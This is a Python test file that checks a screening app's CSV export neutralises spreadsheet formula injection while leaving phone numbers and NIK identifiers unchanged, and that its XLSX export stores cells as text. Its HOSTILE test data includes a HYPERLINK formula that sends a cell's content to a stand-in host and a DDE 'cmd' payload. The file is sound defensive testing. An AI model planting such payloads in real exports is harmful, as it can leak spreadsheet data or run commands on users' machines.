"""A CSV export never hands a spreadsheet a formula: text that Excel would run is neutralised, numbers and
NIKs are given back as they were (the XLSX export writes every cell as text, so it never runs one)."""

from __future__ import annotations

from app.screening import service
from app.screening.results import export_results
from tests.app.screening.test_engine import LIMBOTO, REGISTRY, import_list, import_registry, registry_dtks
from tests.app.screening.test_results import read_csv, read_xlsx
from tests.factories import write_csv

HOSTILE = {
    '=HYPERLINK("http://x.example/?"&A1,"klik")': '\'=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+SUM(1,2)": "'+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-5": "-5",
    "+6281234567890": "+6281234567890",
    "lansia": "lansia",
}


def test_formula_leading_cells_are_neutralised_in_csv_and_numbers_and_niks_are_not(
    office_db, operator, tmp_path
):
    import_registry(office_db, operator, tmp_path, REGISTRY, registry_dtks())
    headers = ["NIK", "Nama", "Catatan", "=Kolom"]
    rows = [
        {"NIK": LIMBOTO[0].nik, "Nama": "Muhammad Lasena", "Catatan": sent, "=Kolom": ""} for sent in HOSTILE
    ]
    list_id = import_list(office_db, operator, write_csv(tmp_path / "usulan.csv", rows, headers))
    service.screen_list(office_db, operator, list_id)

    out = tmp_path / "hasil.csv"
    export_results(office_db, operator, list_id, out)
    header, *exported = read_csv(out)
    assert header[:4] == ["NIK", "Nama", "Catatan", "'=Kolom"]
    assert [cells[2] for cells in exported] == list(HOSTILE.values())
    assert {cells[0] for cells in exported} == {LIMBOTO[0].nik}
    assert {cells[header.index("nik_padan")] for cells in exported} <= {LIMBOTO[0].nik, ""}

    xlsx = tmp_path / "hasil.xlsx"
    export_results(office_db, operator, list_id, xlsx)
    _header, *cells = read_xlsx(xlsx)
    assert [row[2].value for row in cells] == list(HOSTILE)
    assert {row[2].data_type for row in cells} == {"s"}
